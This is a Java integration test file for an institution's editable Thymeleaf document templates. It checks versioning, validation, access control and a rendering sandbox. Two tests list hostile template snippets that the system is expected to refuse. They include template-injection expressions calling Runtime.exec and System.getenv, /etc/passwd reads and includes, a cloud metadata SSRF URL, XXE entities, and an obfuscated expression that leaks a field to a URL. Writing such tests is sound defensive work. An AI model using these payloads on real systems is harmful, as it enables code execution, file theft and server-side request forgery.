package id.suara.documents.web;

import static id.suara.test.PdfFiles.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;

import com.sun.net.httpserver.HttpServer;
import id.suara.documents.DocumentType;
import id.suara.institution.Institution;
import id.suara.institution.InstitutionKind;
import id.suara.institution.Institutions;
import id.suara.institution.Role;
import id.suara.sop.SopVersions;
import id.suara.staff.RoleGrant;
import id.suara.staff.StaffAccounts;
import id.suara.test.Api;
import id.suara.test.Api.Response;
import id.suara.test.SuaraIntegrationTest;
import java.net.InetSocketAddress;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

/**
 * The institution administrator's document templates through the API (ADR 0029): versions, checks before saving, the
 * sandbox refusing what an administrator may not reach, and documents issued from then on printed from the new text.
 */
@SuaraIntegrationTest
class DocumentTemplatesIntegrationTest {

    private static final String URL = "/api/v1/institutions/{id}/document-templates";

    @Autowired
    Api api;

    @Autowired
    MockMvc mvc;

    @Autowired
    Institutions institutions;

    @Autowired
    SopVersions sops;

    @Autowired
    StaffAccounts staff;

    @Autowired
    JdbcClient jdbc;

    /** An institution of its own, taking web submissions, with its administrator; its code and admin's username. */
    private record Fresh(Institution institution, String admin) {}

    private Fresh freshInstitution() {
        var suffix = UUID.randomUUID().toString().substring(0, 8);
        var institution = institutions.add(
                "tpl-" + suffix,
                "Sekretariat DPRD Templat " + suffix,
                InstitutionKind.COUNCIL_SECRETARIAT,
                ZoneId.of("Asia/Jakarta"),
                "{seq:3}/TPL/{year}");
        sops.installPreset(institution.id(), "kebumen-online");
        var admin = "tpladmin." + suffix;
        staff.create(
                institution.id(),
                admin,
                "Admin Templat " + suffix,
                Api.DEMO_PASSWORD,
                Set.of(new RoleGrant(Role.INSTITUTION_ADMIN, null)));
        return new Fresh(institution, admin);
    }

    private UUID demo(String code) {
        return institutions.findByCode(code).orElseThrow().id();
    }

    private Response getJson(String user, String url, Object... vars) {
        return api.send(Api.as(user, get(url, vars)));
    }

    private Response putTemplate(String user, UUID institution, String type, Map<String, Object> change) {
        return api.send(Api.as(
                user,
                put(URL + "/{type}", institution, type)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(api.json(change))));
    }

    private Response preview(String user, UUID institution, String type, String body) {
        return api.send(Api.as(
                user,
                post(URL + "/{type}/preview", institution, type)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(api.json(Map.of("body", body)))));
    }

    private String shipped(String user, UUID institution, String type) {
        var template = getJson(user, URL + "/{type}", institution, type);
        assertThat(template.status()).as(template.raw()).isEqualTo(200);
        return template.get("body");
    }

    /** The receipt of a new web submission to the institution, as issued. */
    private byte[] newReceipt(String institutionCode) throws Exception {
        var submitted = api.submit(Api.webSubmission(institutionCode));
        assertThat(submitted.status()).as(submitted.raw()).isEqualTo(201);
        var result = mvc.perform(get("/api/v1/submissions/{tn}/receipt.pdf", (String) submitted.get("trackingNumber"))
                        .header("X-Access-Code", (String) submitted.get("accessCode")))
                .andReturn()
                .getResponse();
        assertThat(result.getStatus()).isEqualTo(200);
        return result.getContentAsByteArray();
    }

    private static List<String> reasons(Response refused) {
        List<Map<String, Object>> problems = refused.get("problems");
        return problems == null
                ? List.of()
                : problems.stream().map(p -> (String) p.get("reason")).toList();
    }

    private static Map<String, Object> change(String body, String note, Integer basedOn) {
        var change = new HashMap<String, Object>();
        change.put("body", body);
        change.put("note", note);
        change.put("basedOn", basedOn);
        return change;
    }

    // ------------------------------------------------------------------------------------------------------------
    // tests

    @Test
    void everyShippedTemplatePassesTheChecksAndPreviewsASampleDocument() throws Exception {
        var pekalongan = demo("setwan-pekalongan");
        var list = api.jsonList(getJson("pekalongan.admin", URL, pekalongan).raw());
        assertThat(list).hasSize(DocumentType.values().length);
        assertThat(list).allSatisfy(type -> assertThat(type.get("overridden")).isEqualTo(false));
        for (var type : DocumentType.values()) {
            var body = shipped("pekalongan.admin", pekalongan, type.name());
            var previewed = mvc.perform(Api.as(
                            "pekalongan.admin",
                            post(URL + "/{type}/preview", pekalongan, type.name())
                                    .contentType(MediaType.APPLICATION_JSON)
                                    .content(api.json(Map.of("body", body)))))
                    .andReturn()
                    .getResponse();
            assertThat(previewed.getStatus())
                    .as(type + ": " + previewed.getContentAsString())
                    .isEqualTo(200);
            assertThat(previewed.getContentType()).isEqualTo("application/pdf");
            assertThat(text(previewed.getContentAsByteArray()))
                    .as(type.name())
                    .contains("CONTOHKODEVERIFIKASI")
                    .contains("Halaman 1 dari");
        }
        assertThat(jdbc.sql("select count(*) from document_template_version where institution_id = ?")
                        .param(pekalongan)
                        .query(Long.class)
                        .single())
                .as("a preview saves nothing")
                .isZero();
    }

    @Test
    void aNewTextIsUsedForDocumentsIssuedAfterItWhileEarlierOnesAndOtherInstitutionsKeepTheirs() throws Exception {
        var fresh = freshInstitution();
        var id = fresh.institution().id();
        var before = newReceipt(fresh.institution().code());
        assertThat(text(before)).contains("TANDA TERIMA LAPORAN");
        var storedBefore = jdbc.sql("select pdf from issued_document where institution_id = ? and type = 'RECEIPT'")
                .param(id)
                .query(byte[].class)
                .single();

        var body = shipped(fresh.admin(), id, "RECEIPT");
        var changed = body.replace("TANDA TERIMA LAPORAN", "BUKTI PENERIMAAN ADUAN WARGA");
        var saved = putTemplate(fresh.admin(), id, "RECEIPT", change(changed, "Judul sesuai tata naskah baru", 0));
        assertThat(saved.status()).as(saved.raw()).isEqualTo(200);
        assertThat((Boolean) saved.get("overridden")).isTrue();
        assertThat((Integer) saved.get("version")).isEqualTo(1);
        assertThat((String) saved.get("versions.0.note")).isEqualTo("Judul sesuai tata naskah baru");
        assertThat((String) saved.get("versions.0.createdBy")).startsWith("Admin Templat");

        var after = newReceipt(fresh.institution().code());
        assertThat(text(after)).contains("BUKTI PENERIMAAN ADUAN WARGA").doesNotContain("TANDA TERIMA LAPORAN");
        assertThat(jdbc.sql("select template_version from issued_document where institution_id = ? and type = 'RECEIPT'"
                                + " order by issued_at desc limit 1")
                        .param(id)
                        .query(Integer.class)
                        .single())
                .isEqualTo(1);
        var storedAfter = jdbc.sql("select pdf from issued_document where institution_id = ? and type = 'RECEIPT'"
                        + " order by issued_at limit 1")
                .param(id)
                .query(byte[].class)
                .single();
        assertThat(storedAfter).as("the receipt issued before keeps its bytes").isEqualTo(storedBefore);
        assertThat(text(storedAfter)).contains("TANDA TERIMA LAPORAN");
        assertThat(text(newReceipt("dprd-kebumen")))
                .as("another institution keeps the shipped template")
                .contains("TANDA TERIMA LAPORAN");

        var audited = jdbc.sql("select count(*) from audit_entry where action = 'documents.template.changed'"
                        + " and institution_id = ?")
                .param(id)
                .query(Long.class)
                .single();
        assertThat(audited).isEqualTo(1);

        var reset = api.send(Api.as(
                fresh.admin(),
                delete(URL + "/{type}", id, "RECEIPT")
                        .param("note", "Kembali ke bawaan")
                        .param("basedOn", "1")));
        assertThat(reset.status()).as(reset.raw()).isEqualTo(200);
        assertThat((Boolean) reset.get("overridden")).isFalse();
        assertThat((Integer) reset.get("version")).isEqualTo(2);
        assertThat((String) reset.get("body")).isEqualTo(body);
        assertThat(text(newReceipt(fresh.institution().code()))).contains("TANDA TERIMA LAPORAN");

        var first = getJson(fresh.admin(), URL + "/{type}/versions/{v}", id, "RECEIPT", 1);
        assertThat((String) first.get("body")).isEqualTo(changed);
        var second = getJson(fresh.admin(), URL + "/{type}/versions/{v}", id, "RECEIPT", 2);
        assertThat((Boolean) second.get("overridden")).isFalse();
        assertThat((String) second.get("body")).isNull();
        assertThat(getJson(fresh.admin(), URL + "/{type}/versions/{v}", id, "RECEIPT", 9)
                        .status())
                .isEqualTo(404);

        var restored = api.send(Api.as(
                fresh.admin(),
                post(URL + "/{type}/versions/{v}/restore", id, "RECEIPT", 1)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(api.json(Map.of("note", "Judul baru lagi", "basedOn", 2)))));
        assertThat(restored.status()).as(restored.raw()).isEqualTo(200);
        assertThat((Integer) restored.get("version")).isEqualTo(3);
        assertThat((Integer) restored.get("versions.0.restoredFrom")).isEqualTo(1);
        assertThat((String) restored.get("body")).isEqualTo(changed);
        assertThat(text(newReceipt(fresh.institution().code()))).contains("BUKTI PENERIMAAN ADUAN WARGA");

        var listed = api.jsonList(getJson(fresh.admin(), URL, id).raw());
        assertThat(listed)
                .filteredOn(t -> t.get("type").equals("RECEIPT"))
                .singleElement()
                .satisfies(t -> {
                    assertThat(t.get("overridden")).isEqualTo(true);
                    assertThat(t.get("version")).isEqualTo(3);
                });
        assertThat(jdbc.sql(
                                "select action from audit_entry where institution_id = ? and action like 'documents.template.%'"
                                        + " order by seq")
                        .param(id)
                        .query(String.class)
                        .list())
                .containsExactly(
                        "documents.template.changed", "documents.template.reset", "documents.template.restored");
    }

    @Test
    void aChangeBasedOnAnOlderVersionIsAConflictAndTheSameTextAgainSavesNothing() {
        var fresh = freshInstitution();
        var id = fresh.institution().id();
        var body = shipped(fresh.admin(), id, "DISPOSITION");
        var first = putTemplate(
                fresh.admin(), id, "DISPOSITION", change(body.replace("Catatan:", "Catatan pimpinan:"), null, 0));
        assertThat(first.status()).as(first.raw()).isEqualTo(200);
        var stale = putTemplate(fresh.admin(), id, "DISPOSITION", change(body.replace("Catatan:", "Pesan:"), null, 0));
        assertThat(stale.status()).isEqualTo(409);
        assertThat(stale.errorFields()).containsExactly("basedOn");
        var again = putTemplate(
                fresh.admin(), id, "DISPOSITION", change(body.replace("Catatan:", "Catatan pimpinan:"), null, 1));
        assertThat(again.status()).isEqualTo(200);
        assertThat((Integer) again.get("version")).isEqualTo(1);
        assertThat((List<?>) again.get("versions")).hasSize(1);
        var windowsLineEnds = putTemplate(
                fresh.admin(),
                id,
                "DISPOSITION",
                change(body.replace("Catatan:", "Catatan pimpinan:").replace("\n", "\r\n"), null, 1));
        assertThat((List<?>) windowsLineEnds.get("versions"))
                .as("a browser's line ends are the same text")
                .hasSize(1);
    }

    @Test
    void aTextThatDoesNotRenderIsRefusedNamingBodyWithTheLine() {
        var kebumen = demo("dprd-kebumen");
        var body = shipped("kebumen.admin", kebumen, "RECEIPT");
        var unknown = body.replace("${receipt.title}", "${receipt.judul.toUpperCase()}");
        var refused = putTemplate("kebumen.admin", kebumen, "RECEIPT", change(unknown, null, null));
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.errorFields()).containsExactly("body");
        assertThat(reasons(refused)).containsExactly("template");
        var line = body.substring(0, body.indexOf("${receipt.title}")).split("\n", -1).length;
        assertThat((Integer) refused.get("problems.0.line")).isEqualTo(line);
        assertThat((String) refused.get("errors.0.message")).startsWith("line " + line + ": ");

        var unparsable = putTemplate(
                "kebumen.admin", kebumen, "RECEIPT", change(body.replace("${number}", "${number +}"), null, null));
        assertThat(unparsable.status()).isEqualTo(400);
        assertThat(reasons(unparsable)).containsExactly("template");

        var notXhtml = putTemplate(
                "kebumen.admin", kebumen, "RECEIPT", change(body.replace("<p>Laporan", "<br><p>Laporan"), null, null));
        assertThat(notXhtml.status()).isEqualTo(400);
        assertThat(reasons(notXhtml)).containsExactly("pdf");

        assertThat(reasons(putTemplate("kebumen.admin", kebumen, "RECEIPT", change("  ", null, null))))
                .containsExactly("empty");
        var huge = body + "<!--" + "x".repeat(110 * 1024) + "-->";
        var tooLarge = putTemplate("kebumen.admin", kebumen, "RECEIPT", change(huge, null, null));
        assertThat(tooLarge.status()).isEqualTo(400);
        assertThat(reasons(tooLarge)).containsExactly("too-large");
        var endless = putTemplate(
                "kebumen.admin",
                kebumen,
                "RECEIPT",
                change(
                        body.replace(
                                "</body>",
                                "<div th:fragment=\"again\"><div th:replace=\"~{:: again}\"></div></div></body>"),
                        null,
                        null));
        assertThat(endless.status()).as(endless.raw()).isEqualTo(400);
        assertThat(reasons(endless))
                .as("Thymeleaf stops a fragment including itself")
                .containsExactly("template");
        assertThat((String) endless.get("problems.0.detail")).contains("recursive template inclusion");
        var nul = putTemplate(
                "kebumen.admin",
                kebumen,
                "RECEIPT",
                change(body.replace("</body>", "<!--/* \u0000 */--></body>"), null, null));
        assertThat(nul.status()).as(nul.raw()).isEqualTo(400);
        assertThat(reasons(nul)).containsExactly("nul");
        assertThat(putTemplate("kebumen.admin", kebumen, "RECEIPT", change(body, "a\u0000b", null))
                        .errorFields())
                .containsExactly("note");
        var longNote = putTemplate("kebumen.admin", kebumen, "RECEIPT", change(body, "n".repeat(501), null));
        assertThat(longNote.status()).isEqualTo(400);
        assertThat(longNote.errorFields()).containsExactly("note");
        assertThat(putTemplate("kebumen.admin", kebumen, "SURAT_CINTA", change(body, null, null))
                        .errorFields())
                .containsExactly("type");
        assertThat(jdbc.sql("select count(*) from document_template_version where institution_id = ?")
                        .param(kebumen)
                        .query(Long.class)
                        .single())
                .as("nothing refused was stored")
                .isZero();
    }

    @Test
    void aTextThatLeavesOutTheNumberTheQrCodeOrTheSignatureIsRefusedSayingWhichPart() {
        var pekalongan = demo("setwan-pekalongan");
        var receipt = shipped("pekalongan.admin", pekalongan, "RECEIPT");
        var noNumber =
                receipt.replace("<p class=\"number\" th:text=\"'Nomor agenda: ' + ${number}\">Nomor agenda</p>", "");
        assertThat(noNumber).isNotEqualTo(receipt);
        assertThat(reasons(preview("pekalongan.admin", pekalongan, "RECEIPT", noNumber)))
                .containsExactly("missing-number");
        var askedForAPdf = api.send(Api.as(
                "pekalongan.admin",
                post(URL + "/{type}/preview", pekalongan, "RECEIPT")
                        .accept(MediaType.APPLICATION_PDF)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content(api.json(Map.of("body", noNumber)))));
        assertThat(askedForAPdf.status())
                .as("refused alike when a PDF is asked for")
                .isEqualTo(400);
        var noVerification = receipt.replace("<div th:replace=\"~{documents/layout :: verification}\"></div>", "");
        assertThat(noVerification).isNotEqualTo(receipt);
        var refused = putTemplate("pekalongan.admin", pekalongan, "RECEIPT", change(noVerification, null, null));
        assertThat(refused.status()).isEqualTo(400);
        assertThat(reasons(refused)).containsExactly("missing-qr", "missing-code");
        assertThat((String) refused.get("errors.0.message")).contains("verification QR code");

        var letter = shipped("pekalongan.admin", pekalongan, "RESPONSE_LETTER");
        var unsigned = letter.replace("<div th:replace=\"~{documents/layout :: signature}\"></div>", "");
        assertThat(unsigned).isNotEqualTo(letter);
        assertThat(reasons(preview("pekalongan.admin", pekalongan, "RESPONSE_LETTER", unsigned)))
                .containsExactly("missing-signatory");
    }

    @Test
    void hostileTemplatesAreRefusedBeforeTheyAreSavedNamingBody() {
        var pekalongan = demo("setwan-pekalongan");
        var body = shipped("pekalongan.admin", pekalongan, "RECEIPT");
        var at = "<h1>TANDA TERIMA LAPORAN</h1>";
        var hostile = Map.ofEntries(
                Map.entry("<p th:text=\"${@staffAccounts.findByUsername('sysadmin')}\">x</p>", "forbidden-bean"),
                Map.entry("<p th:text=\"${@environment.getProperty('suara.crypto.key')}\">x</p>", "forbidden-bean"),
                Map.entry("<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\">x</p>", "forbidden-type"),
                Map.entry("<p th:text=\"${T&#40;java.lang.System).getenv()}\">x</p>", "forbidden-type"),
                Map.entry("<p th:text=\"${new java.io.File('/etc/passwd').exists()}\">x</p>", "forbidden-new"),
                Map.entry("<div th:insert=\"~{/etc/passwd}\"></div>", "forbidden-include"),
                Map.entry("<div th:replace=\"~{fragments/layout :: page}\"></div>", "forbidden-include"),
                Map.entry("<div th:insert=\"/etc/passwd :: x\"></div>", "forbidden-include"),
                Map.entry("<img src=\"file:///etc/passwd\" alt=\"\"/>", "forbidden-source"),
                Map.entry("<img src=\"http://169.254.169.254/latest/meta-data/\" alt=\"\"/>", "forbidden-source"),
                Map.entry("<link rel=\"stylesheet\" href=\"http://example.org/x.css\"/>", "forbidden-element"),
                Map.entry("<p style=\"background: url(file:///etc/passwd)\">x</p>", "forbidden-url"),
                Map.entry("<style>@import 'http://example.org/x.css';</style>", "forbidden-import"),
                Map.entry("<p th:utext=\"${receipt.title}\">x</p>", "forbidden-unescaped"),
                Map.entry("<p>[(${receipt.title})]</p>", "forbidden-unescaped"),
                Map.entry("<p th:text=\"${__${receipt.title}__}\">x</p>", "forbidden-preprocessing"),
                Map.entry("<p th:if=\"${receipt.title == 'x'}\" th:text=\"${@dataSource}\">x</p>", "forbidden-bean"));
        hostile.forEach((snippet, reason) -> {
            var refused = putTemplate(
                    "pekalongan.admin", pekalongan, "RECEIPT", change(body.replace(at, at + snippet), null, null));
            assertThat(refused.status()).as(snippet + ": " + refused.raw()).isEqualTo(400);
            assertThat(refused.errorFields()).as(snippet).isNotEmpty().containsOnly("body");
            assertThat(reasons(refused)).as(snippet).contains(reason);
        });
        var doctype = body.replace("<!DOCTYPE html>", "<!DOCTYPE html SYSTEM \"file:///etc/passwd\">");
        assertThat(reasons(putTemplate("pekalongan.admin", pekalongan, "RECEIPT", change(doctype, null, null))))
                .contains("forbidden-doctype");
        var entity = body.replace("<!DOCTYPE html>", "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");
        assertThat(reasons(putTemplate("pekalongan.admin", pekalongan, "RECEIPT", change(entity, null, null))))
                .contains("forbidden-entity");
    }

    @Test
    void whatTheTextRulesCannotSeeTheSandboxRefusesWhenTheSampleIsRendered() {
        var pekalongan = demo("setwan-pekalongan");
        var body = shipped("pekalongan.admin", pekalongan, "RECEIPT");
        var at = "<h1>TANDA TERIMA LAPORAN</h1>";
        var hostile = Map.of(
                "<p th:text=\"${receipt.getClass().getClassLoader()}\">x</p>", "sandbox-method",
                "<p th:text=\"${#conversions.convert('/etc/passwd', 'java.io.File')}\">x</p>", "sandbox-object",
                "<p th:text=\"${#ctx.getVariable('receipt')}\">x</p>", "sandbox-object",
                "<p th:text=\"${#strings.repeat('x', 1000000000)}\">x</p>", "sandbox-method",
                "<p th:text=\"${receipt.title.class}\">x</p>", "sandbox-property");
        hostile.forEach((snippet, reason) -> {
            var refused = putTemplate(
                    "pekalongan.admin", pekalongan, "RECEIPT", change(body.replace(at, at + snippet), null, null));
            assertThat(refused.status()).as(snippet + ": " + refused.raw()).isEqualTo(400);
            assertThat(refused.errorFields()).as(snippet).containsOnly("body");
            assertThat(reasons(refused)).as(snippet + ": " + refused.raw()).containsExactly(reason);
        });
    }

    @Test
    void aRemoteAddressBuiltInAnExpressionIsNeverFetchedAndTheTextIsRefused() throws Exception {
        var requests = new AtomicInteger();
        var server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            requests.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        server.start();
        try {
            var pekalongan = demo("setwan-pekalongan");
            var body = shipped("pekalongan.admin", pekalongan, "RECEIPT");
            var at = "<h1>TANDA TERIMA LAPORAN</h1>";
            var port = server.getAddress().getPort();
            var remote = "<img alt=\"\" th:src=\"${'ht' + 'tp://127.0.0.1:" + port + "/leak?' + receipt.title}\"/>"
                    + "<p th:style=\"${'background-image: ur' + 'l(ht' + 'tp://127.0.0.1:" + port + "/bg)'}\">x</p>";
            var refused = putTemplate(
                    "pekalongan.admin", pekalongan, "RECEIPT", change(body.replace(at, at + remote), null, null));
            assertThat(refused.status()).as(refused.raw()).isEqualTo(400);
            assertThat(refused.errorFields()).containsOnly("body");
            assertThat(reasons(refused)).contains("resource");
            assertThat((String) refused.get("problems.0.detail")).startsWith("http://127.0.0.1:" + port + "/");
            var file = "<img alt=\"\" th:src=\"${'fi' + 'le:///etc/passwd'}\"/>";
            assertThat(reasons(putTemplate(
                            "pekalongan.admin",
                            pekalongan,
                            "RECEIPT",
                            change(body.replace(at, at + file), null, null))))
                    .containsExactly("resource");
        } finally {
            server.stop(0);
        }
        assertThat(requests.get()).as("nothing was fetched").isZero();
    }

    @Test
    void onlyTheInstitutionsAdministratorReadsOrChangesItsTemplates() {
        var kebumen = demo("dprd-kebumen");
        assertThat(getJson("kebumen.sekwan", URL, kebumen).status()).isEqualTo(403);
        assertThat(getJson("kebumen.sekwan", URL + "/{type}", kebumen, "RECEIPT")
                        .status())
                .isEqualTo(403);
        assertThat(getJson("pekalongan.admin", URL, kebumen).status()).isEqualTo(404);
        assertThat(putTemplate("pekalongan.admin", kebumen, "RECEIPT", change("x", null, null))
                        .status())
                .isEqualTo(404);
        assertThat(preview("kebumen.petugas", kebumen, "RECEIPT", "x").status()).isEqualTo(403);
        assertThat(api.send(get(URL, kebumen)).status()).isEqualTo(401);
        assertThat(getJson("sysadmin", URL, kebumen).status()).isEqualTo(200);
        assertThat(getJson("kebumen.admin", URL, kebumen).status()).isEqualTo(200);
    }
}
